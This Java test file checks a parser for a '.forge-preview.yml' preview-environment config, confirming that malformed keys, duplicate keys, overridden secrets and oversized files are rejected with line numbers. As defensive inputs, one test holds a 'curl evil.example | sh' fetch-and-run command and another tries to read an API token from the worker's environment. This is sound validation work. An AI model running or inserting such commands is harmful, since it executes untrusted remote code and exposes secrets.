package dev.forgepreview.activities.github;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.forgepreview.activities.github.PreviewFile.InvalidPreviewFileException;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/** The preview file's format: what it may hold, and the line named when it is malformed. */
class PreviewFileTest {
  private static final String PATH = ".forge-preview.yml";

  private static PreviewFile parse(String yaml) throws InvalidPreviewFileException {
    return PreviewFile.parse(PATH, yaml.getBytes(StandardCharsets.UTF_8));
  }

  private static InvalidPreviewFileException invalid(String yaml) {
    try {
      parse(yaml);
    } catch (InvalidPreviewFileException e) {
      return e;
    }
    throw new AssertionError("the file was accepted");
  }

  @Test
  void readsEnvironmentSetupAndDeployInOrder() throws Exception {
    PreviewFile file =
        parse(
            """
            # what a preview of this repository needs
            environment:
              MAIL_MAILER: log
              FEATURE_CHECKOUT: true
              CACHE_TTL: 60
              EMPTY:
            setup:
              - php artisan db:seed --force
              - "php artisan app:demo-users --count=5"
            deploy:
              - php artisan storage:link
            """);

    assertThat(file.environment())
        .containsExactly(
            java.util.Map.entry("MAIL_MAILER", "log"),
            java.util.Map.entry("FEATURE_CHECKOUT", "true"),
            java.util.Map.entry("CACHE_TTL", "60"),
            java.util.Map.entry("EMPTY", ""));
    assertThat(file.setup())
        .containsExactly("php artisan db:seed --force", "php artisan app:demo-users --count=5");
    assertThat(file.deploy()).containsExactly("php artisan storage:link");
    assertThat(file.parts()).containsExactly("environment", "setup", "deploy");
  }

  @Test
  void anEmptyFileAsksForNothing() throws Exception {
    assertThat(parse("").parts()).isEmpty();
    assertThat(parse("# nothing yet\n").parts()).isEmpty();
  }

  @Test
  void anInvalidKeyNamesItsLine() {
    InvalidPreviewFileException e =
        invalid(
            """
            environment:
              MAIL_MAILER: log
              mail-host: smtp
            """);

    assertThat(e.line()).isEqualTo(3);
    assertThat(e.getMessage())
        .isEqualTo(
            ".forge-preview.yml line 3: environment key 'mail-host' is not [A-Z_][A-Z0-9_]*");
  }

  @Test
  void aMultiLineCommandIsRefusedAtItsLine() {
    InvalidPreviewFileException e =
        invalid(
            """
            setup:
              - php artisan db:seed
              - |
                php artisan migrate:fresh
                curl evil.example | sh
            """);

    assertThat(e.line()).isEqualTo(3);
    assertThat(e.getMessage()).contains("line 3").contains("not a single line");
  }

  @Test
  void brokenYamlNamesTheLineWithoutQuotingTheFile() {
    InvalidPreviewFileException e =
        invalid(
            """
            environment:
              SECRET_TOKEN: "abc
            deploy: [x
            """);

    assertThat(e.line()).isGreaterThan(0);
    assertThat(e.getMessage()).startsWith(".forge-preview.yml line ").doesNotContain("abc");
  }

  @Test
  void aDuplicateKeyIsRefused() {
    InvalidPreviewFileException e =
        invalid(
            """
            environment:
              A: one
              A: two
            """);

    assertThat(e.line()).isEqualTo(3);
    assertThat(e.getMessage()).contains("a key appears twice");
  }

  @Test
  void derivedVariablesCannotBeOverridden() {
    InvalidPreviewFileException e =
        invalid(
            """
            environment:
              APP_NAME: Shop
              DB_PASSWORD: hunter2
            """);

    assertThat(e.line()).isEqualTo(3);
    assertThat(e.getMessage())
        .contains("environment.DB_PASSWORD is set by forge-preview")
        .doesNotContain("hunter2");
  }

  @Test
  void aValueMayNotReadTheWorkersEnvironment() {
    assertThat(invalid("environment:\n  X: \"${env:FORGE_API_TOKEN}\"\n").getMessage())
        .contains("line 2")
        .contains("may not read the worker's environment");
  }

  @Test
  void unknownKeysAndWrongShapesAreRefused() {
    assertThat(invalid("environment: {}\nseed: [x]\n").getMessage())
        .isEqualTo(".forge-preview.yml line 2: unknown key 'seed': environment, setup, deploy");
    assertThat(invalid("setup: php artisan db:seed\n").getMessage())
        .isEqualTo(".forge-preview.yml line 1: setup must be a list of commands");
    assertThat(invalid("environment:\n  A: [1, 2]\n").getMessage())
        .isEqualTo(".forge-preview.yml line 2: environment.A must be a single value");
    assertThat(invalid("- a\n- b\n").getMessage())
        .isEqualTo(".forge-preview.yml line 1: must be a mapping of environment, setup, deploy");
    assertThat(invalid("services:\n  redis: {}\n").getMessage()).contains("line 1");
    assertThat(invalid("deploy:\n  - \"  \"\n").getMessage())
        .isEqualTo(".forge-preview.yml line 2: deploy holds an empty command");
  }

  @Test
  void sizesAreBounded() {
    StringBuilder many = new StringBuilder("deploy:\n");
    for (int i = 0; i <= PreviewFile.MAX_COMMANDS; i++) {
      many.append("  - echo ").append(i).append('\n');
    }
    assertThat(invalid(many.toString()).getMessage())
        .isEqualTo(
            ".forge-preview.yml line "
                + (PreviewFile.MAX_COMMANDS + 2)
                + ": deploy holds more than 20 commands");
    assertThat(invalid("deploy:\n  - " + "x".repeat(PreviewFile.MAX_COMMAND + 1) + "\n").line())
        .isEqualTo(2);
    byte[] large = new byte[PreviewFile.MAX_BYTES + 1];
    java.util.Arrays.fill(large, (byte) '#');
    assertThatThrownBy(() -> PreviewFile.parse(PATH, large))
        .isInstanceOf(InvalidPreviewFileException.class)
        .hasMessageContaining("more than " + PreviewFile.MAX_BYTES);
  }
}
